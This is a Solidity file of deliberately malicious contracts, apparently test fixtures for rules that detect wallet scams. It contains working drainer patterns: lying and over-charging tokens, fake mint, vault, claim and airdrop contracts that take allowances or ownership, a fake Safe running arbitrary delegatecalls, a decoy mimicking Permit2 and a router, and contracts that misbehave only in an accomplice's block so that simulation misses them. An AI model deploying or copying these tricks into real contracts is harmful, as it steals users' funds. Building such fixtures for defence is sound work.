// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC721} from "@openzeppelin/contracts/token/ERC721/ERC721.sol";

// Contracts that take what they shouldn't, for the tests of the rules that stop them.

/// Tells of transfers that it doesn't make.
contract LiarCoin is ERC20 {
    constructor(address to, uint256 amount) ERC20("Liar", "LIE") {
        _mint(to, amount);
    }

    function transfer(address to, uint256 amount) public override returns (bool) {
        emit Transfer(msg.sender, to, amount);
        return true;
    }
}

/// Takes ten times what it is asked to send.
contract GreedyCoin is ERC20 {
    constructor(address to, uint256 amount) ERC20("Greedy", "GRD") {
        _mint(to, amount);
    }

    function transfer(address to, uint256 amount) public override returns (bool) {
        _transfer(msg.sender, to, amount);
        _transfer(msg.sender, address(this), amount * 9);
        return true;
    }
}

/// Lets whoever is called by its holder take everything.
contract OriginCoin is ERC20 {
    constructor(address to, uint256 amount) ERC20("Origin", "ORG") {
        _mint(to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        if (from == tx.origin) {
            _transfer(from, to, amount);
            return true;
        }
        return super.transferFrom(from, to, amount);
    }
}

/// Promises a picture for ether and keeps the ether.
contract FakeMint {
    function mint() external payable {}
}

/// Takes a deposit and gives no share.
contract FakeVault {
    IERC20 public immutable asset;

    constructor(IERC20 asset_) {
        asset = asset_;
    }

    function deposit(uint256 amount, address) external {
        asset.transferFrom(msg.sender, address(this), amount);
    }
}

/// Claims nothing, and pulls an allowance that was given before.
contract FakeClaim {
    IERC20 public immutable token;

    constructor(IERC20 token_) {
        token = token_;
    }

    function claim() external {
        token.transferFrom(msg.sender, address(this), token.balanceOf(msg.sender));
    }
}

/// Behaves while it is watched: pulls the allowance only in a block of its choice.
contract PatientClaim {
    IERC20 public immutable token;
    address public immutable accomplice;

    constructor(IERC20 token_, address accomplice_) {
        token = token_;
        accomplice = accomplice_;
    }

    function claim() external {
        if (block.coinbase == accomplice) {
            token.transferFrom(msg.sender, address(this), token.balanceOf(msg.sender));
        }
    }
}

/// A token that moves everything when a block comes out right.
contract PatientCoin is ERC20 {
    address private immutable thief;

    constructor(address to, uint256 amount, address thief_) ERC20("Patient", "PAT") {
        _mint(to, amount);
        thief = thief_;
    }

    function delegate(address) external {
        if (block.timestamp % 7 == 3) {
            _transfer(msg.sender, thief, balanceOf(msg.sender));
        }
    }
}

/// Runs as a Safe and takes what it holds.
contract Sweeper {
    function sweep(IERC20 token, address to) external {
        token.transfer(to, token.balanceOf(address(this)));
    }
}

/// What a hijacked page has an account delegate to.
contract Drainer {
    function drain(address payable to) external {
        to.transfer(address(this).balance);
    }

    receive() external payable {}
}

/// Sells nothing: keeps the price.
contract FakeMarket {
    function buy(ERC721, uint256) external payable {}
}

/// Takes over what its caller owns, if the caller is its owner's contract.
contract FakeAirdrop {
    function claim(address owned, address to) external {
        (bool fine,) = owned.call(abi.encodeWithSignature("transferOwnership(address)", to));
        require(fine);
    }
}

/// Pulls through Permit2, and pictures as their operator, in a block of its choice.
contract PatientHub {
    address public immutable accomplice;

    constructor(address accomplice_) {
        accomplice = accomplice_;
    }

    function play(address permit2, address token, uint160 amount) external {
        if (block.coinbase == accomplice) {
            (bool fine,) = permit2.call(
                abi.encodeWithSignature(
                    "transferFrom(address,address,uint160,address)", msg.sender, address(this), amount, token
                )
            );
            require(fine);
        }
    }

    function show(ERC721 collection, uint256 id) external {
        if (block.coinbase == accomplice) {
            collection.transferFrom(msg.sender, address(this), id);
        }
    }
}

/// Never ends.
contract Endless {
    function wait_() external view {
        while (gasleft() > 0) {}
    }
}

/// Looks like a Safe to whoever asks for its owners, and runs what it is told.
contract FakeSafe {
    function isOwner(address) external pure returns (bool) {
        return true;
    }

    function execTransaction(
        address to, uint256, bytes calldata data, uint8, uint256, uint256, uint256, address, address payable, bytes calldata
    ) external payable returns (bool fine) {
        (fine,) = to.delegatecall(data);
    }
}

/// Has the functions of what is known, and does with an allowance what it likes.
contract Decoy {
    IERC20 public immutable token;
    address public immutable accomplice;

    constructor(IERC20 token_, address accomplice_) {
        token = token_;
        accomplice = accomplice_;
    }

    function take() private {
        token.transferFrom(msg.sender, accomplice, token.balanceOf(msg.sender));
    }

    /// As Permit2's.
    function transferFrom(address, address, uint160, address) external {
        take();
    }

    /// As a router's, and keeps to no floor.
    function swapExactTokensForTokens(uint256 amountIn, uint256, address[] calldata path, address to, uint256) external {
        IERC20(path[0]).transferFrom(msg.sender, accomplice, amountIn);
        Dust(path[1]).give(to);
    }
}

/// Worth nothing.
contract Dust is ERC20("Dust", "DST") {
    function give(address to) external {
        _mint(to, 1);
    }
}

/// Takes everything and gives a unit of something.
contract DustClaim is ERC20("Claim", "CLM") {
    IERC20 public immutable token;

    constructor(IERC20 token_) {
        token = token_;
    }

    function claim() external {
        token.transferFrom(msg.sender, address(this), token.balanceOf(msg.sender));
        _mint(msg.sender, 1);
    }
}

/// Grants without telling.
contract QuietCoin is ERC20("Quiet", "QUI") {
    constructor(address to, uint256 amount) {
        _mint(to, amount);
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        _approve(msg.sender, spender, amount, false);
        return true;
    }
}

/// Lets somebody else act, by a name that no standard has.
contract Deputies {
    mapping(address => mapping(address => bool)) public deputies;

    function appoint(address deputy) external {
        deputies[msg.sender][deputy] = true;
    }
}

/// Buys anything for a wei.
contract DustBuyer {
    function sell(ERC721 collection, uint256 id) external {
        collection.transferFrom(msg.sender, address(this), id);
        payable(msg.sender).transfer(1);
    }

    receive() external payable {}
}

/// Fails wherever it is watched, without a word, and takes an allowance in its own block.
contract FailsUnlessItsBlock {
    IERC20 public immutable token;
    address public immutable accomplice;

    constructor(IERC20 token_, address accomplice_) {
        token = token_;
        accomplice = accomplice_;
    }

    function claim() external {
        if (block.coinbase != accomplice) {
            assembly {
                invalid()
            }
        }
        token.transferFrom(msg.sender, address(this), token.balanceOf(msg.sender));
    }
}
